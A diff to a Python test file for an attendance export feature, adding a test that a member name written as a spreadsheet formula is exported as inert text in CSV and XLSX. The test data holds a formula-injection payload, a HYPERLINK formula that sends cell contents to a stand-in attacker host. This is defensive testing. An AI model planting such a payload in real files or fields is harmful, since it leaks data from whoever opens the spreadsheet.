@@ -3,11 +3,13 @@
 participation report."""
 import csv
 import io
+import zipfile
 from datetime import datetime, timedelta
 from zoneinfo import ZoneInfo
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import text
 
 from server.attendance.models import Attendance
 from server.auth.models import User
@@ -348,3 +350,20 @@ def test_participation_csv_and_workbook_carry_the_same_numbers(world, month, log
     assert {r[0] for r in detail} == {"三月主题党日（一支部）", "三月主题党日（总支）", "河道清理", "接种点值守"}
     late_row = next(r for r in detail if r[4] == "甲二" and r[0] == "三月主题党日（一支部）")
     assert late_row[6] == datetime(2025, 3, 10, 9, 15) and late_row[7] == "是"
+
+
+def test_exports_write_formula_looking_names_as_text(world, party, login, ctx):
+    """A member named '=HYPERLINK(…)' shows as that text in the CSV and the XLSX; nothing evaluates."""
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"点我")'
+    with ctx():
+        db.session.execute(text("update users set name = :n where id = :i"), {"n": evil, "i": world.ids.a1})
+        db.session.commit()
+    client = login(world.phones.org_a)
+    rows = read_csv(client.get(f"/api/v1/events/{party}/attendance.csv"))
+    assert [r[1] for r in rows if "HYPERLINK" in r[1]] == ["'" + evil]
+    resp = client.get(f"/api/v1/events/{party}/attendance.xlsx")
+    names = [c for ws in read_xlsx(resp).worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert [(c.value, c.data_type) for c in names] == [(evil, "s")]
+    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
